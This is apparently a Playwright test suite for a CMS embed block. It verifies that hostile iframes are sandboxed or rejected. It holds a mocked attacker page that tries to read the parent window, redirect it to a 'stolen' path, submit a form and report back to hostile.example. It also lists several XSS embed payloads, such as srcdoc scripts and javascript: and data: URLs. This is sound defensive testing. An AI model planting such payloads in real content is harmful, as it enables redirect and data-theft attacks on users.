import type { Page } from '@playwright/test';
import { ArticlePage } from '../pages/article-page.ts';
import { ArticleListPage } from '../pages/article-list-page.ts';
import { type SharedDesk, expect, test } from '../support/shared-galley.ts';

const HOSTILE = 'https://hostile.example';

/** Tries everything that a page in a frame should not be able to do, and tells what came of it. */
const HOSTILE_PAGE = `<!doctype html><title>hostile</title><body>hostile<script>
  const notify = words => void fetch('${HOSTILE}/tell?' + encodeURIComponent(words));
  const attempt = (name, work) => {
    try {
      work();
      notify(name + ': done');
    } catch {
      notify(name + ': refused');
    }
  };
  attempt('top document', () => top.document.title);
  attempt('parent document', () => parent.document.title);
  attempt('top storage', () => top.localStorage.length);
  attempt('top navigation', () => { top.location.href = '${HOSTILE}/stolen'; });
  attempt('parent navigation', () => { parent.location.href = 'javascript:document.title'; });
  attempt('dialog', () => { alert('pwned'); });
  attempt('form', () => {
    const form = document.createElement('form');
    form.action = '${HOSTILE}/form';
    form.target = '_top';
    document.body.append(form);
    form.submit();
  });
  top.postMessage({ galley: 'frame', state: 'said', said: { height: 4000 } }, '*');
  parent.postMessage({ height: 600 }, '*');
  notify('end');
</script>`;

/** Answers for all of hostile.example and keeps what its page reports. */
const serveHostile = async (page: Page): Promise<{ readonly told: readonly string[]; readonly asked: readonly string[] }> => {
  const told: string[] = [];
  const asked: string[] = [];
  await page.route(`${HOSTILE}/**`, async route => {
    const url = new URL(route.request().url());
    asked.push(url.pathname);
    if (url.pathname === '/tell') told.push(decodeURIComponent(url.search.slice(1)));
    await route.fulfill({
      contentType: 'text/html',
      headers: { 'access-control-allow-origin': '*' },
      body: url.pathname === '/tell' ? '' : HOSTILE_PAGE,
    });
  });
  return { told, asked };
};

test.describe('a hostile embed', () => {
  let desk: SharedDesk;
  let page: Page;
  let dialogs: string[];

  test.beforeEach(async ({ sharedDesk }) => {
    desk = await sharedDesk('embeds', { username: 'editor', window: { viewport: { width: 1280, height: 900 }, reducedMotion: 'reduce' } });
    page = await desk.context.newPage();
    dialogs = [];
    page.on('dialog', dialog => {
      if (dialog.type() !== 'beforeunload') dialogs.push(dialog.message());
      void dialog.accept();
    });
  });
  test.afterEach(() => page.close());

  /** Opens the form of a block in an article, embedded content unless told otherwise; it is 450 pixels wide (B2-017). */
  const openForm = async (name = 'Embedded content'): Promise<void> => {
    await page.goto(desk.origin);
    const list = new ArticleListPage(page);
    await list.filter('contentStatus=review1&contentLocale=de-CH');
    await list.openFirst();
    const article = new ArticlePage(page);
    await article.edit();
    await article.typeAtEndOf(article.block('paragraph'), ' Dazu eine Karte.');
    await page.keyboard.press('Control+Shift+Enter');
    const search = page.getByRole('combobox', { name: 'Find a block' });
    await expect(search).toBeFocused();
    await search.fill(name);
    await page.getByRole('option', { name, exact: true }).click();
    const dialog = page.getByRole('dialog').filter({ has: page.getByRole('heading', { name: `Insert: ${name}` }) });
    await expect(dialog).toBeVisible();
    await expect(dialog).toHaveCSS('width', '450px');
  };

  test('runs far away: it neither reads nor moves the window, opens no dialog and sends no form', async () => {
    const { told, asked } = await serveHostile(page);
    await openForm();
    const home = page.url();
    await page
      .getByRole('dialog')
      .getByRole('textbox', { name: /Address or iframe/u })
      .fill(`<iframe src="${HOSTILE}/page" onload="alert(1)"></iframe>`);
    await page.getByRole('dialog').getByRole('button', { name: 'Insert', exact: true }).click();
    const block = page.getByRole('figure', { name: `Embedded content: ${HOSTILE}/page` });
    await expect(block).toBeVisible();
    await expect.poll(() => told.includes('end')).toBe(true);
    expect([...new Set(told)].sort()).toEqual(
      [
        'dialog: done',
        'end',
        'form: done',
        'parent document: refused',
        'parent navigation: refused',
        'top document: refused',
        'top navigation: refused',
        'top storage: refused',
      ].sort(),
    ); // “done” of dialog and form means only that the sandbox ignored them without a word
    expect(dialogs).toEqual([]);
    expect(asked).not.toContain('/form');
    expect(asked).not.toContain('/stolen');
    expect(page.url()).toBe(home);
    // What the player says of its height counts only by way of the frame page: 600 and 20, never the 4000 it told the window itself.
    const outer = block.locator('iframe');
    await expect(outer).toHaveCSS('height', '620px');
    expect(new URL((await outer.getAttribute('src')) ?? '').origin).not.toBe(desk.origin);
  });

  for (const [name, code] of [
    ['a page of its own in srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    ['a script as its address', '<iframe src="javascript:parent.alert(1)"></iframe>'],
    ['data as its address', '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>'],
    ['a script beside its frame', `<iframe src="${HOSTILE}/other"></iframe><script>alert(1)</script>`],
    ['an address that only looks like a network’s', 'javascript:alert(1)//https://www.youtube.com/watch?v=dQw4w9WgXcQ'],
  ] as const) {
    test(`a hostile embed is refused with ${name}, and shown nowhere`, async () => {
      const { asked } = await serveHostile(page);
      await openForm();
      await page
        .getByRole('dialog')
        .getByRole('textbox', { name: /Address or iframe/u })
        .fill(code);
      await page.getByRole('dialog').getByRole('button', { name: 'Insert', exact: true }).click();
      await expect(page.getByRole('alert').filter({ hasText: 'Exactly one https address or one complete iframe' })).toBeVisible();
      await expect(page.getByRole('dialog').locator('iframe')).toHaveCount(0);
      expect(asked).not.toContain('/other');
      expect(dialogs).toEqual([]);
    });
  }

  test('a hostile embed has a dialog of its own, 450 pixels wide (B2-017)', async () => {
    await openForm('Instagram');
    await expect(page.getByRole('textbox', { name: /Address or embed code/u })).toBeFocused();
  });

  test('a hostile embed cannot be framed by the window without the frame page, and the frame page frames nothing but https', async () => {
    await serveHostile(page);
    await page.goto(desk.origin);
    await expect(page.getByRole('banner')).toBeVisible();
    const policy = (await page.request.get(desk.origin)).headers()['content-security-policy'] ?? '';
    const frames = /frame-src (?<origin>http:\/\/127\.0\.0\.1:\d+);/u.exec(policy)?.groups?.['origin'] ?? '';
    expect(frames).not.toBe(desk.origin);
    const framePolicy = (await page.request.get(`${frames}/`)).headers()['content-security-policy'] ?? '';
    expect(framePolicy).toContain(`frame-ancestors ${desk.origin}`);
    const shown = await page.evaluate(
      async ({ frames, addresses }) => {
        const counts: number[] = [];
        for (const address of addresses) {
          const frame = document.createElement('iframe');
          const loaded = new Promise(resolve => frame.addEventListener('load', resolve));
          frame.src = `${frames}/#${encodeURIComponent(address)}`;
          document.body.append(frame);
          await loaded;
          counts.push(frame.contentWindow?.length ?? -1);
          frame.remove();
        }
        return counts;
      },
      {
        frames,
        addresses: [
          'javascript:alert(1)',
          'data:text/html,x',
          'http://hostile.example/',
          'https://user@hostile.example/',
          `${frames}/`,
          'blob:x',
          'words',
        ],
      },
    );
    expect(shown).toEqual([0, 0, 0, 0, 0, 0, 0]);
    expect(dialogs).toEqual([]);
  });
});
